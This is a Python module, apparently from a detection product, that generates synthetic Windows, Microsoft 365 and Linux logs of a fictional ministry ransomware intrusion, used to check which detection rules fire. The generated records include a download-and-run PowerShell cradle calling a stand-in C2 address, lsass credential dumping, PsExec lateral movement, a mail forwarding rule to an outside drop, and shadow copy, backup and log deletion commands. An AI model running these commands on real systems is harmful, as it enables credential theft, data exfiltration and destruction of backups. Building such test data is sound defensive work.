"""The demo's story: a ministry's ordinary Tuesday morning, and the intrusion hidden in it.

A finance clerk opens a macro-laden invoice; its PowerShell dumps lsass, where a helpdesk
administrator's credentials were cached; with them the intruder reaches the file server by PsExec,
destroys the shadow copies, the backup catalog and boot recovery, drops ransom notes and clears
the log. In Microsoft 365 the clerk's mailbox gets a forwarding rule to an outside address; on the
Linux backup server a password is guessed over SSH and the restic snapshots are forgotten.
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

from watchkeeper.demo import windows as win
from watchkeeper.demo.cloud import AuditLog, AuthLog
from watchkeeper.demo.windows import Log, Proc

DAY = datetime(2026, 3, 10, 7, 30, tzinfo=UTC)
DOMAIN = "MJN"
FQDN = "mjn.example"
C2 = "203.0.113.45"  # TEST-NET-3: the intruder's server
EGRESS = "198.51.100.20"  # TEST-NET-2: the ministry's public address
DROP = "fin.archive@mail-drop.example.net"
PAYLOAD = "C:\\Users\\Public\\svcupd.exe"
SHARES = ("Finance", "HR", "Legal", "Procurement", "Minister_Office", "Press", "IT", "Archive",
          "Budget_2026", "Contracts", "Board_Minutes", "Projects")


@dataclass(frozen=True)
class Step:
    """One stage of the intrusion, when it happened, and the bundled rules that should see it."""

    time: datetime
    where: str
    what: str
    rules: tuple[str, ...] = ()


@dataclass(frozen=True)
class Scenario:
    """What `generate` wrote: the log folder, its files with their record counts, and the story."""

    root: Path
    logs: Path
    files: dict[str, int]
    steps: tuple[Step, ...]

    @property
    def expected_rules(self) -> tuple[str, ...]:
        """Titles of the bundled rules the attack should trigger, in story order."""
        return tuple(dict.fromkeys(r for s in self.steps for r in s.rules))


@dataclass
class _Host:
    name: str
    ip: str
    sysmon: Log
    security: Log
    system: Log

    @property
    def short(self) -> str:
        return self.name.split(".")[0]


def _host(name: str, ip: str, rng: random.Random) -> _Host:
    fqdn = f"{name}.{FQDN}"
    return _Host(
        fqdn, ip,
        Log(fqdn, *win.SYSMON, rng.randint(80_000, 900_000), rng),
        Log(fqdn, *win.SECURITY, rng.randint(1_000_000, 9_000_000), rng),
        Log(fqdn, *win.SYSTEM, rng.randint(20_000, 90_000), rng),
    )


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


class _Story:
    """Builds the morning event by event; every random choice comes from one seeded generator."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        rng = self.rng
        self.ws = _host("WS-FIN-014", "10.20.1.14", rng)
        self.workstations = [self.ws, _host("WS-HR-007", "10.20.1.37", rng), _host("WS-LEG-022", "10.20.1.52", rng)]
        self.fs = _host("FS-01", "10.20.0.10", rng)
        self.dc = _host("DC-01", "10.20.0.5", rng)
        self.users = {"WS-FIN-014": "a.lindqvist", "WS-HR-007": "j.okafor", "WS-LEG-022": "m.rossi"}
        self.ual = AuditLog(rng)
        self.auth = AuthLog("bk-01", rng)
        self.steps: list[Step] = []
        self.outlook: dict[str, Proc] = {}

    def at(self, minutes: float) -> datetime:
        return DAY + timedelta(minutes=minutes, milliseconds=self.rng.randint(0, 999))

    def jitter(self, start: float, end: float) -> datetime:
        return self.at(self.rng.uniform(start, end))

    # --- the ordinary morning ------------------------------------------------------------------

    def benign(self) -> None:
        rng = self.rng
        for host in self.workstations:
            user = f"{DOMAIN}\\{self.users[host.short]}"
            login = 15 + rng.uniform(0, 40)
            win.logon(host.security, self.at(login), self.users[host.short], DOMAIN, 2, "127.0.0.1", host.short)
            winlogon = Proc("C:\\Windows\\System32\\winlogon.exe", "winlogon.exe", 612, win.guid(rng), "NT AUTHORITY\\SYSTEM", "System")
            userinit = win.process_create(host.sysmon, self.at(login + 0.1), winlogon, "C:\\Windows\\System32\\userinit.exe",
                                          "C:\\Windows\\system32\\userinit.exe", user=user, integrity="Medium")
            explorer = win.process_create(host.sysmon, self.at(login + 0.2), userinit, "C:\\Windows\\explorer.exe",
                                          "C:\\Windows\\Explorer.EXE")
            outlook = win.process_create(host.sysmon, self.at(login + 1), explorer,
                                         "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                                         '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ')
            self.outlook[host.short] = outlook
            edge = win.process_create(host.sysmon, self.at(login + 2), explorer,
                                      "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                                      '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://intranet.mjn.example/')
            apps = [
                ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Budget_Q1.xlsx"),
                ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "Memo_draft.docx"),
                ("C:\\Windows\\System32\\notepad.exe", "todo.txt"),
            ]
            for n in range(rng.randint(6, 9)):
                image, doc = apps[n % len(apps)]
                t = self.jitter(login + 5, 270)
                proc = win.process_create(host.sysmon, t, explorer, image,
                                          f'"{image}" "\\\\FS-01\\Shares\\{rng.choice(SHARES)}\\{doc}"')
                win.file_create(host.sysmon, t + timedelta(seconds=40), proc,
                                f"C:\\Users\\{self.users[host.short]}\\AppData\\Local\\Temp\\~${doc}")
            for _ in range(rng.randint(25, 35)):
                proc = rng.choice([outlook, edge, outlook])
                dst = rng.choice([("52.97.146.162", "outlook.office365.com"), ("13.107.42.14", "mjn.sharepoint.com"),
                                  ("10.20.0.10", "FS-01.mjn.example"), ("20.190.159.2", "login.microsoftonline.com")])
                win.network_connect(host.sysmon, self.jitter(login + 1, 275), proc, host.ip, dst[0], 443, dst[1])
            services = Proc("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", 704,
                            win.guid(rng), "NT AUTHORITY\\SYSTEM", "System")
            for _ in range(rng.randint(8, 12)):
                win.process_create(host.sysmon, self.jitter(0, 280), services, "C:\\Windows\\System32\\svchost.exe",
                                   f"C:\\Windows\\system32\\svchost.exe -k {rng.choice(['netsvcs', 'LocalService', 'wusvcs', 'UnistackSvcGroup'])} -p",
                                   user="NT AUTHORITY\\SYSTEM", integrity="System")
            # Services start under SYSTEM and Group Policy refreshes over the network, all morning.
            for _ in range(rng.randint(14, 22)):
                kind = rng.choice([5, 5, 3])
                win.logon(host.security, self.jitter(0, 280), "SYSTEM" if kind == 5 else "DC-01$", "NT AUTHORITY" if kind == 5 else DOMAIN,
                          kind, "-" if kind == 5 else self.dc.ip, "-" if kind == 5 else "DC-01")
            # Every workstation maps the file server's shares all morning.
            for _ in range(rng.randint(12, 20)):
                win.logon(self.fs.security, self.jitter(login, 280), self.users[host.short], DOMAIN, 3, host.ip, host.short)
                win.logon(self.dc.security, self.jitter(login, 280), self.users[host.short], DOMAIN, 3, host.ip, host.short)
        # The helpdesk administrator fixed the clerk's printer at 08:15: his credentials stay in lsass.
        win.logon(self.ws.security, self.at(45), "adm.svensson", DOMAIN, 2, "127.0.0.1", "WS-FIN-014")
        for _ in range(6):
            win.failed_logon(self.dc.security, self.jitter(0, 280), self.rng.choice(["m.rossi", "j.okafor", "printer"]),
                             DOMAIN, self.rng.choice(["10.20.1.52", "10.20.1.37", "10.20.2.9"]), "-")
        # The nightly shadow copy on the file server starts and stops the VSS service.
        for minutes in (-20, -18):
            win.service_state(self.fs.system, self.at(minutes), "Volume Shadow Copy", "running" if minutes == -20 else "stopped")
        for _ in range(10):
            win.service_state(self.fs.system, self.jitter(0, 280), rng.choice(["Windows Update", "Windows Modules Installer",
                                                                                "Background Intelligent Transfer Service"]),
                              rng.choice(["running", "stopped"]))
        self._benign_cloud()
        self._benign_linux()

    def _benign_cloud(self) -> None:
        rng = self.rng
        people = [*self.users.values(), "adm.svensson", "t.berg", "s.haddad", "minister.office"]
        for person in people:
            upn = f"{person}@{FQDN}"
            self.ual.login(self.jitter(10, 60), upn, EGRESS, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edge/122.0")
            for _ in range(rng.randint(8, 14)):
                self.ual.mail_accessed(self.jitter(15, 280), upn, EGRESS)
            for _ in range(rng.randint(2, 5)):
                doc = rng.choice(["Budget_2026.xlsx", "Minutes_0309.docx", "Press_release.docx", "Tender_17.pdf"])
                self.ual.file_accessed(self.jitter(20, 280), upn, EGRESS,
                                       f"https://mjn.sharepoint.com/sites/{rng.choice(SHARES)}/Shared Documents/{doc}")
        # An ordinary rule: newsletters into a folder (no forwarding).
        self.ual.cmdlet(self.at(95), f"j.okafor@{FQDN}", EGRESS, "New-InboxRule", f"j.okafor@{FQDN}\\Newsletters",
                        [("Name", "Newsletters"), ("From", "news@gov-bulletin.example"), ("MoveToFolder", "Newsletters"),
                         ("StopProcessingRules", "False")])

    def _benign_linux(self) -> None:
        for minutes in range(0, 290, 10):
            self.auth.cron_session(self.at(minutes))
        self.auth.ssh_accepted(self.at(5), "backup", self.fs.ip)  # the file server pushes its backup
        self.auth.ssh_accepted(self.at(70), "t.berg", "10.20.0.40")
        self.auth.sudo(self.at(71), "t.berg", "/home/t.berg", "/usr/bin/systemctl status restic-backup.timer")
        self.auth.sudo(self.at(73), "t.berg", "/home/t.berg", "/usr/bin/restic -r /srv/backup/restic snapshots --latest 3")

    # --- the intrusion ---------------------------------------------------------------------------

    def intrusion(self) -> None:
        self._phish()
        self._mailbox()
        self._lateral()
        self._backup_server()
        self._impact()

    def _step(self, t: datetime, where: str, what: str, *rules: str) -> None:
        self.steps.append(Step(t, where, what, rules))

    def _phish(self) -> None:
        ws, user = self.ws, f"{DOMAIN}\\a.lindqvist"
        outlook = self.outlook["WS-FIN-014"]
        doc = ("C:\\Users\\a.lindqvist\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
               "7QK2M1ZD\\Invoice_2026-0311.docm")
        t = self.at(102)
        win.file_create(ws.sysmon, t, outlook, doc)
        word = win.process_create(ws.sysmon, t + timedelta(seconds=14), outlook,
                                  "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                  f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{doc}" /o ""')
        script = f"IEX (New-Object Net.WebClient).DownloadString('https://{C2}/update.ps1')"
        # UAC is disabled by a legacy GPO and the clerk is a local administrator: the macro runs elevated.
        ps = win.process_create(ws.sysmon, t + timedelta(seconds=27), word,
                                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                f"powershell.exe -NoP -NonI -W Hidden -Enc {_encoded(script)}",
                                user=user, integrity="High", original="PowerShell.EXE",
                                cwd="C:\\Users\\a.lindqvist\\Documents\\")
        win.network_connect(ws.sysmon, t + timedelta(seconds=29), ps, ws.ip, C2, 443)
        for name in ("procdump64.exe", "PsExec64.exe", "svcupd.exe"):
            win.file_create(ws.sysmon, t + timedelta(seconds=35), ps, f"C:\\Users\\Public\\{name}")
        self._step(t, ws.short, "The clerk opens Invoice_2026-0311.docm from Outlook; Word starts an encoded, hidden PowerShell that downloads tools from 203.0.113.45")
        self.ps = ps

        t = self.at(110)
        lsass = Proc("C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", 684, win.guid(self.rng),
                     "NT AUTHORITY\\SYSTEM", "System")
        dump = win.process_create(ws.sysmon, t, ps, "C:\\Users\\Public\\procdump64.exe",
                                  "C:\\Users\\Public\\procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\ls.dmp",
                                  original="procdump")
        win.process_access(ws.sysmon, t + timedelta(seconds=1), dump, lsass, "0x1fffff",
                           "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbghelp.dll+1b3e2")
        win.file_create(ws.sysmon, t + timedelta(seconds=3), dump, "C:\\Users\\Public\\ls.dmp")
        rundll = win.process_create(ws.sysmon, t + timedelta(seconds=75), ps, "C:\\Windows\\System32\\rundll32.exe",
                                    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\d.bin full",
                                    original="RUNDLL32.EXE")
        win.process_access(ws.sysmon, t + timedelta(seconds=76), rundll, lsass, "0x1fffff",
                           "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+3a5c2")
        win.file_create(ws.sysmon, t + timedelta(seconds=78), rundll, "C:\\Users\\Public\\d.bin")
        self._step(t, ws.short, "Credential dumping: procdump64 and rundll32 comsvcs.dll MiniDump on lsass (adm.svensson's credentials are cached there)")

    def _mailbox(self) -> None:
        upn = f"a.lindqvist@{FQDN}"
        t = self.at(116)
        self.ual.login(t, upn, C2, "Mozilla/5.0 (X11; Linux x86_64) python-requests/2.31")
        self.ual.mail_accessed(t + timedelta(seconds=40), upn, f"{C2}:51234")
        self.ual.cmdlet(t + timedelta(seconds=95), upn, f"{C2}:51234", "New-InboxRule", f"{upn}\\.",
                        [("AlwaysDeleteOutlookRulesBlob", "False"), ("Force", "False"), ("Name", "."),
                         ("SubjectOrBodyContainsWords", "invoice;payment;IBAN"), ("ForwardTo", DROP),
                         ("MarkAsRead", "True"), ("StopProcessingRules", "True")])
        self._step(t, "Microsoft 365", f"The clerk's mailbox is opened from 203.0.113.45 and an inbox rule '.' forwards payment mail to {DROP}",
                   "M365 Inbox Rule Forwards Or Redirects Mail")

    def _lateral(self) -> None:
        ws, fs = self.ws, self.fs
        t = self.at(135)
        win.process_create(ws.sysmon, t, self.ps, "C:\\Users\\Public\\PsExec64.exe",
                           f"C:\\Users\\Public\\PsExec64.exe -accepteula \\\\FS-01 -u {DOMAIN}\\adm.svensson -p ******** -c -d {PAYLOAD}",
                           original="psexec.c")
        win.logon(fs.security, t + timedelta(seconds=2), "adm.svensson", DOMAIN, 3, ws.ip, ws.short)
        win.logon(self.dc.security, t + timedelta(seconds=40), "adm.svensson", DOMAIN, 3, ws.ip, ws.short)
        win.service_installed(fs.system, t + timedelta(seconds=3), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
        system = Proc("System", "", 4, win.guid(self.rng), "NT AUTHORITY\\SYSTEM", "System")
        win.file_create(fs.sysmon, t + timedelta(seconds=3), system, "C:\\Windows\\PSEXESVC.exe")
        services = Proc("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", 704,
                        win.guid(self.rng), "NT AUTHORITY\\SYSTEM", "System")
        psexesvc = win.process_create(fs.sysmon, t + timedelta(seconds=4), services, "C:\\Windows\\PSEXESVC.exe",
                                      "C:\\Windows\\PSEXESVC.exe", original="psexesvc.exe")
        self.cmd = win.process_create(fs.sysmon, t + timedelta(seconds=5), psexesvc, "C:\\Windows\\System32\\cmd.exe",
                                      "cmd.exe", user=f"{DOMAIN}\\adm.svensson", integrity="High", original="Cmd.Exe")
        self._step(t, fs.short, "Lateral movement: PsExec from WS-FIN-014 to FS-01 as adm.svensson (4624 type 3, PSEXESVC service installed), then a network logon on DC-01")

    def _backup_server(self) -> None:
        t = self.at(145)
        tries = [("root", True), ("admin", False), ("backup", True), ("restic", False), ("backupadm", True)]
        for n in range(44):
            user, valid = tries[n % len(tries)]
            self.auth.ssh_failed(t + timedelta(seconds=4 * n + self.rng.randint(0, 2)), user, self.ws.ip, valid)
        ok = t + timedelta(seconds=190)
        self.auth.ssh_accepted(ok, "backupadm", self.ws.ip, method="password")
        self._step(t, "bk-01", "SSH password guessing from WS-FIN-014 against the Linux backup server: 44 failures, then backupadm logs on")
        forget = ok + timedelta(minutes=4)
        self.auth.sudo(forget, "backupadm", "/home/backupadm", "/usr/bin/restic -r /srv/backup/restic forget --keep-last 1 --prune")
        self.auth.sudo(forget + timedelta(minutes=2), "backupadm", "/home/backupadm", "/usr/bin/rm -rf /srv/backup/restic/snapshots")
        self._step(forget, "bk-01", "restic forget --keep-last 1 --prune run through sudo, then the snapshots folder removed",
                   "Linux Restic Snapshots Forgotten Or Backup Deleted Via Sudo")

    def _impact(self) -> None:
        fs, cmd = self.fs, self.cmd
        t = self.at(180)
        sys32 = "C:\\Windows\\System32\\"
        commands = [
            ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE"),
            ("wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive", "wmic.exe"),
            ("wbadmin.exe", "wbadmin.exe delete catalog -quiet", "WBADMIN.EXE"),
            ("wbadmin.exe", "wbadmin.exe delete systemstatebackup -keepversions:0 -quiet", "WBADMIN.EXE"),
            ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No", "bcdedit.exe"),
            ("bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures", "bcdedit.exe"),
            ("sc.exe", "sc.exe config VSS start= disabled", "sc.exe"),
            ("sc.exe", "sc.exe stop VSS", "sc.exe"),
        ]
        for n, (image, line, original) in enumerate(commands):
            win.process_create(fs.sysmon, t + timedelta(seconds=6 * n), cmd, sys32 + image, line, original=original)
        self._step(t, fs.short, "Shadow copies deleted (vssadmin, wmic), backup catalog and system-state backups deleted, boot recovery disabled, VSS disabled",
                   "Volume Shadow Copies Deleted", "Windows Backup Catalog Or System State Backup Deleted",
                   "Windows Boot Recovery Disabled With Bcdedit", "Backup Or Shadow Copy Service Stopped Or Disabled")

        t = self.at(184)
        locker = win.process_create(fs.sysmon, t, cmd, "C:\\Windows\\svcupd.exe",
                                    "C:\\Windows\\svcupd.exe --path D:\\Shares --ext .lkd8 --silent",
                                    original="svcupd.exe")
        for n, share in enumerate(SHARES):
            at = t + timedelta(seconds=5 + 3 * n)
            for doc in ("Report.docx", "Figures.xlsx"):
                win.file_create(fs.sysmon, at, locker, f"D:\\Shares\\{share}\\{doc}.lkd8")
            win.file_create(fs.sysmon, at + timedelta(milliseconds=400), locker, f"D:\\Shares\\{share}\\HOW_TO_RESTORE_FILES.txt")
        self._step(t, fs.short, f"Encryption of D:\\Shares; HOW_TO_RESTORE_FILES.txt written into {len(SHARES)} folders",
                   "Ransom Note File Created")

        t = self.at(188)
        win.process_create(fs.sysmon, t, cmd, sys32 + "wevtutil.exe", "wevtutil.exe cl Security", original="wevtutil.exe")
        win.log_cleared(fs.security, t + timedelta(seconds=1), "adm.svensson", DOMAIN)
        self._step(t, fs.short, "The Security log is cleared with wevtutil (Security 1102)",
                   "Event Log Cleared From The Command Line", "Security Audit Log Cleared")

    # --- output ----------------------------------------------------------------------------------

    def write(self, root: Path) -> Scenario:
        logs = root / "logs"
        files: dict[str, int] = {}
        for host in [*self.workstations, self.fs, self.dc]:
            for log, kind in ((host.sysmon, "sysmon"), (host.security, "security"), (host.system, "system")):
                if log.records:
                    rel = f"windows/{host.short}_{kind}.jsonl"
                    files[rel] = log.write(logs / rel)
        files["m365/unified_audit_log.jsonl"] = self.ual.write(logs / "m365" / "unified_audit_log.jsonl")
        files["linux/bk-01/auth.log"] = self.auth.write(logs / "linux" / "bk-01" / "auth.log")
        steps = tuple(sorted(self.steps, key=lambda s: s.time))
        _write_story(root / "story.md", steps, files)
        return Scenario(root, logs, files, steps)


def _write_story(path: Path, steps: tuple[Step, ...], files: dict[str, int]) -> None:
    lines = ["# Watchkeeper demo: an intrusion at the Ministry of Justice of Nordland (fictional)", "",
             f"All times UTC, {DAY:%A %d %B %Y}. Logs are in `logs/`; every record is synthetic.", "",
             "| time | where | what happened | bundled rules expected |", "|---|---|---|---|"]
    lines += [f"| {s.time:%H:%M:%S} | {s.where} | {s.what} | {'; '.join(s.rules) or '(SigmaHQ rules)'} |" for s in steps]
    lines += ["", "## Files", ""] + [f"- `logs/{name}`: {count} records" for name, count in files.items()]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def generate(out: Path, seed: int = 2026) -> Scenario:
    """Write the scenario into `out` (`logs/` and `story.md`); the same seed writes the same bytes."""
    out.mkdir(parents=True, exist_ok=True)
    story = _Story(seed)
    story.benign()
    story.intrusion()
    return story.write(out)
